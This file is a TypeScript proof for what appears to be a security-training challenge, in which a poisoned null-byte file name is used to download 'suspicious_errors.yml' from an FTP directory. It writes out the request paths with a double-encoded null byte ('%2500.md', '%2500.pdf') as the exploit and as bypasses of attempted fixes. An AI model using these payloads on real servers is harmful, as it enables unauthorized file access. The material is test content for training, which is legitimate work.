import { prove } from '@fruit/challenge-kit/proof'
import { fetchPoisoned, nearMissesOf, spellingsOf } from '../../weaknesses/poisoned-name/fetch-poisoned.ts'
import { challenge } from './challenge.ts'

const NAME = 'suspicious_errors.yml'

export const proof = prove(challenge, {
  exploit: (attacker) => fetchPoisoned(attacker, NAME),
  spellings: spellingsOf(NAME),
  nearMisses: {
    ...nearMissesOf(NAME),
    'a backup beside it': (attacker) => attacker.get('/ftp/coupons_2013.md.bak%2500.md'),
    'the same file with the other ending of YAML': (attacker) => attacker.get('/ftp/suspicious_errors.yaml%2500.md'),
  },
  bypasses: {
    'refuse-the-reported-name': (attacker) => attacker.get(`/ftp/${NAME}%2500.pdf`),
    'cut-at-the-last-zero': (attacker) => attacker.get(`/ftp/${NAME}%2500.pdf`),
  },
})
